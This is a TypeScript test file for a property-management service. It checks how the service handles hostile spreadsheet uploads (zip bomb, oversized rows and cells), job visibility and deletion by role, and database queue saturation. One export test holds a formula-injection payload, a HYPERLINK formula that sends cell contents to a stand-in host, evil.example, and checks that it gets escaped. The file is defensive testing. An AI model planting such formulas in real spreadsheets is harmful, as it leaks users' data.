import { RC } from '@wuye/contract';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readXlsx } from '../lib/excel.js';
import { hostileXlsx, type HostileKind } from '../test/hostile-files.js';
import { startTestServer, type TestServer } from '../test/harness.js';
import { workbookBase64 } from '../test/workbook.js';

/**
 * Attacks on uploads and jobs (issue 33, items 2 and 4), replayed against the real dispatcher:
 * hostile workbooks are refused in the call with a clear message and queue nothing; a job keeps
 * the uploaded file, not its rows, and lists never carry either; an operator deletes an import;
 * jobs are seen only by their creator and the roles of their kind; import messages do not echo
 * owners' stored names.
 */

let s: TestServer;
let admin = '';
let admin2 = '';
let cashier = '';
let steward = '';
let merchant = '';

beforeAll(async () => {
  s = await startTestServer();
  [admin, admin2, cashier, steward, merchant] = (await Promise.all(
    ['admin', 'admin2', 'cashier', 'steward', 'merchant'].map((u) => s.login(u)),
  )) as [string, string, string, string, string];
});
afterAll(() => s?.close());

const jobCount = async () =>
  (
    await s.database.db
      .selectFrom('jobs')
      .select(sql<number>`count(*)::int`.as('n'))
      .executeTakeFirstOrThrow()
  ).n;

const workbook = (headers: string[], rows: string[][]) => workbookBase64(headers, rows, 'x');

describe('hostile uploads', () => {
  const refusals: Record<HostileKind, RegExp> = {
    bomb: /^Excel 文件解压后超过 40 MB/,
    rows: /^一次最多导入 \d+ 行，请分批导入$/,
    wide: /^第 2 行超过 60 列（XFD2）/,
    longCell: /^第 2 行 A2 单元格超过 2000 个字符/,
    unclosed: /^文件不是有效的 Excel（.xlsx）文件$/,
  };

  for (const [kind, message] of Object.entries(refusals) as Array<[HostileKind, RegExp]>) {
    it(`refuses a ${kind} file in the call, quickly, and queues nothing (roomimport as admin, feebillimport as cashier)`, async () => {
      const file = (await hostileXlsx(kind)).toString('base64');
      const before = await jobCount();
      for (const [method, token] of [
        ['roomimport', admin],
        ['feebillimport', cashier],
      ] as const) {
        const started = Date.now();
        const res = await s.call(method, { filename: 'attack.xlsx', file_base64: file }, token);
        expect(res.return_code, method).toBe(RC.FAIL);
        expect(res.return_msg, method).toMatch(message);
        expect(Date.now() - started, method).toBeLessThan(15_000);
      }
      expect(await jobCount()).toBe(before);
    }, 120_000);
  }

  it('other communities keep answering while a bomb is read (the reader holds no connection)', async () => {
    const file = (await hostileXlsx('bomb')).toString('base64');
    const upload = s.call('roomimport', { filename: 'attack.xlsx', file_base64: file }, admin);
    const started = Date.now();
    const list = await s.call('roomlist', {}, admin2);
    expect(list.return_code).toBe(RC.SUCCESS);
    expect(Date.now() - started).toBeLessThan(3_000);
    expect((await upload).return_code).toBe(RC.FAIL);
  }, 60_000);
});

describe('an import job keeps the file, not its rows', () => {
  it('stores the upload once, leaves the payload small, and lists read neither', async () => {
    const rows = Array.from({ length: 300 }, (_, i) => ['21号楼', '1单元', String(1000 + i)]);
    const res = await s.call('roomimport', { filename: '21号楼.xlsx', file_base64: await workbook(['楼栋', '单元', '房号'], rows) }, admin);
    expect(res.return_code, res.return_msg).toBe(RC.SUCCESS);
    const id = res.data.job_id as number;
    const row = await s.database.db.selectFrom('jobs').select('payload').where('id', '=', id).executeTakeFirstOrThrow();
    expect(JSON.stringify(row.payload).length).toBeLessThan(200);
    const file = await s.database.db
      .selectFrom('import_files')
      .select(['filename', 'content'])
      .where('job_id', '=', id)
      .executeTakeFirstOrThrow();
    expect(file.filename).toBe('21号楼.xlsx');
    expect(file.content.length).toBeGreaterThan(1000);
    await s.runJobs();
    expect((await s.call('jobinfo', { id }, admin)).data).toMatchObject({ status: 'done', result: { created_rooms: 300 } });
    const listed = (await s.call('joblist', { kind: 'room_import' }, admin)).data.items[0];
    expect(listed).not.toHaveProperty('payload');
    expect((await s.call('importloglist', {}, admin)).data.items[0]).toMatchObject({ id, filename: '21号楼.xlsx', created_rooms: 300 });
  });
});

describe('importdel', () => {
  it('deletes a finished import with its file; not one in progress, not another community’s, not a kind the role cannot see', async () => {
    const file = await workbook(
      ['楼栋', '单元', '房号', '收费项目', '账期', '金额'],
      [['1号楼', '1单元', '101', '无此项目', '2024-01', '1.00']],
    );
    const res = await s.call('feebillimport', { filename: '删除我.xlsx', file_base64: file }, cashier);
    expect(res.return_code, res.return_msg).toBe(RC.SUCCESS);
    const id = res.data.job_id as number;
    expect((await s.call('importdel', { id }, cashier)).return_msg).toBe('导入进行中，完成后才能删除');
    await s.runJobs();
    expect((await s.call('importdel', { id }, admin2)).return_msg).toBe('导入记录不存在');
    expect((await s.call('importdel', { id }, steward)).return_msg).toBe('导入记录不存在');
    // room imports are read by everyone, deleted only by who may import rooms
    const rooms = (await s.call('importloglist', {}, steward)).data.items[0].id as number;
    expect((await s.call('importdel', { id: rooms }, steward)).return_code).toBe(RC.NO_PERMISSION);
    const del = await s.call('importdel', { id }, cashier);
    expect(del.return_code, del.return_msg).toBe(RC.SUCCESS);
    expect(await s.database.db.selectFrom('import_files').select('job_id').where('job_id', '=', id).execute()).toEqual([]);
    expect((await s.call('feeimportlist', {}, cashier)).data.items.some((j: { id: number }) => j.id === id)).toBe(false);
    // an export is no import
    const exp = await s.call('roomexport', {}, admin);
    expect((await s.call('importdel', { id: exp.data.job_id }, admin)).return_msg).toBe('导入记录不存在');
  });
});

describe('who sees a job', () => {
  it('a merchant or steward reads neither the owners’ staff’s imports nor another account’s exports; the creator and the kind’s roles do', async () => {
    const file = await workbook(['楼栋', '单元', '房号', '姓名', '手机号'], [['1号楼', '1单元', '101', '冒名顶替', '13800000001']]);
    const imp = await s.call('memberimport', { filename: 'm.xlsx', file_base64: file }, admin);
    expect(imp.return_code, imp.return_msg).toBe(RC.SUCCESS);
    const exp = await s.call('memberexport', {}, admin);
    expect(exp.return_code, exp.return_msg).toBe(RC.SUCCESS);
    await s.runJobs();
    for (const token of [merchant, steward, cashier]) {
      expect((await s.call('jobinfo', { id: imp.data.job_id }, token)).return_msg).toBe('任务不存在');
      expect((await s.call('jobinfo', { id: exp.data.job_id }, token)).return_msg).toBe('任务不存在');
      const ids = (await s.call('joblist', { limit: 200 }, token)).data.items.map((j: { id: number }) => j.id);
      expect(ids).not.toContain(imp.data.job_id);
      expect(ids).not.toContain(exp.data.job_id);
    }
    expect((await s.call('jobinfo', { id: imp.data.job_id }, admin)).data.status).toBe('done');
    expect((await s.call('jobinfo', { id: exp.data.job_id }, admin)).data.status).toBe('done');
  });

  it('an import’s row errors do not echo the stored name of a known mobile', async () => {
    const known = await s.database.db
      .selectFrom('members')
      .select(['realname', 'mobile'])
      .where('rid', '=', 1)
      .where('mobile', '<>', '')
      .executeTakeFirstOrThrow();
    const file = await workbook(['楼栋', '单元', '房号', '姓名', '手机号'], [['1号楼', '1单元', '101', '别人', known.mobile]]);
    const res = await s.call('memberimport', { filename: 'm.xlsx', file_base64: file }, admin);
    await s.runJobs();
    const job = await s.call('jobinfo', { id: res.data.job_id }, admin);
    const text = JSON.stringify(job.data.result.errors);
    expect(text).toContain('姓名不一致');
    expect(text).not.toContain(known.realname);
  });
});

describe('exports and formulas (issue 33, item 14)', () => {
  it('writes a room remark that starts like a formula as text with a leading apostrophe', async () => {
    const room = (await s.call('roomlist', { limit: 1 }, admin)).data.items[0];
    const remark = '=HYPERLINK("http://evil.example/?"&A1,"查看")';
    const add = await s.call('roomadd', { bid: room.bid, tid: room.tid, title: 'F01', built_area: '10', remark }, admin);
    expect(add.return_code, add.return_msg).toBe(RC.SUCCESS);
    const file = await s.exportFile('roomexport', { keyword: 'F01' }, admin);
    const sheet = await readXlsx(file.data.content_base64);
    expect(sheet.rows.map((r) => r.values['备注'])).toContain(`'${remark}`);
  });
});

describe.skipIf(Boolean(process.env.DATABASE_URL))('a saturated embedded database (issue 33, item 10)', () => {
  let b: TestServer;
  let token = '';
  beforeAll(async () => {
    b = await startTestServer({ pgliteQueueMax: 1, pgliteWaitMs: 300 });
    token = await b.login('cashier');
  });
  afterAll(() => b?.close());

  it('answers 系统繁忙 at once past the queue limit and after the longest wait, instead of waiting behind a long job; jobs still wait their turn', async () => {
    // a long job's transaction holds the one connection for 2 s
    const held = b.database.db.transaction().execute(async (trx) => {
      await sql`select 1`.execute(trx);
      await new Promise((r) => setTimeout(r, 2000));
    });
    await new Promise((r) => setTimeout(r, 50));
    const started = Date.now();
    const waiting = b.call('feebilllist', {}, token);
    const refused = await b.call('feebilllist', {}, token);
    expect(refused).toMatchObject({ return_code: RC.FAIL, return_msg: '系统繁忙，请稍后再试' });
    expect(Date.now() - started).toBeLessThan(200);
    const waited = await waiting;
    expect(waited).toMatchObject({ return_code: RC.FAIL, return_msg: '系统繁忙，请稍后再试' });
    expect(Date.now() - started).toBeLessThan(1500);
    // a job waits however long it takes
    const jobs = b.runJobs();
    await held;
    await jobs;
    expect((await b.call('feebilllist', {}, token)).return_code).toBe(RC.SUCCESS);
  });
});
